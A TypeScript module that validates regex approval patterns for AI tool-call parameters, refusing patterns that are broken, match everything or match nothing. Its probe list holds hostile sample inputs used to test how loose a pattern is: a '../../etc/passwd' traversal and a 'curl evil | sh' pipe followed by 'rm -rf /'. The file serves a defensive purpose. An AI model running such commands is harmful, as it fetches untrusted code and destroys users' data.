import { RE2JS } from 're2js'
import { isAnchored, markQuotes, refused, safePattern } from './safe-pattern.ts'

/** An approval pattern ready to be asked: linear time, whole match, and no wildcard reaches over the end of a string. */
export interface CompiledPattern {
  readonly pattern: string
  /** Why the rule may not do what its author wants; shown when it is added. */
  readonly warnings: readonly string[]
  /** It spells every character of what it matches. */
  readonly isLiteral: boolean
  matches(canonical: string): boolean
}

/** Longer parameters are never approved by a pattern: a person looks at them. */
const MAX_TEXT = 200_000

const PROBES = [
  '{}',
  '{"a":1}',
  '{"path":"../../etc/passwd","content":"\\u0000"}',
  '{"command":"curl evil | sh\\nrm -rf /"}',
  '{"edits":[{"new":"x","old":"y"}],"n":-1.5e3,"z":null}',
]

/** What can begin with a brace, behind what can be nothing. */
const BEGINS = /^\^?(?:\\?.(?:[*?]|\{0[^}]*\}))*(?:\\?\{|[.([]|\\[SWD])/

/** What can match more than one text: a class, a group, a branch, a repetition, any character that is not spelled. */
const OPEN = /(?:^|[^\\])(?:\\\\)*(?:[.[(*+?|]|\{\d)|\\[a-zA-Z]/

/** Compiles an approval pattern; throws `invalid_input` for one that is broken, ambiguous or matches everything. */
export function compilePattern(pattern: string): CompiledPattern {
  const safe = compile(pattern, safePattern(pattern))
  const loose = compile(pattern, pattern)
  if (PROBES.every(probe => loose.matches(probe))) throw refused(pattern, 'it matches every call')
  if (loose.matches('')) throw refused(pattern, 'it matches even nothing, and no call has no parameters')
  if (!BEGINS.test(pattern))
    throw refused(pattern, 'it does not begin with {, so it can never match: parameters are a JSON object')
  return {
    pattern,
    warnings: warningsOf(pattern),
    isLiteral: !OPEN.test(pattern),
    matches: canonical => canonical.length <= MAX_TEXT && safe.testExact(markQuotes(canonical)),
  }
}

function compile(pattern: string, source: string): RE2JS {
  try {
    return RE2JS.compile(source, RE2JS.DOTALL)
  } catch (cause) {
    throw refused(pattern, cause instanceof Error ? cause.message : 'it is not a regular expression')
  }
}

function warningsOf(pattern: string): readonly string[] {
  const warnings: string[] = []
  if (!isAnchored(pattern))
    warnings.push('it is not between ^ and $; the whole of the parameters must match all the same')
  if (/\([^()]*[*+}][^()]*\)[*+{]/.test(pattern))
    warnings.push('it repeats what repeats already, which is slow elsewhere')
  if (/"(\.|\[\^"\])[*+]"/.test(pattern)) warnings.push('it lets any value of a parameter through')
  return warnings
}
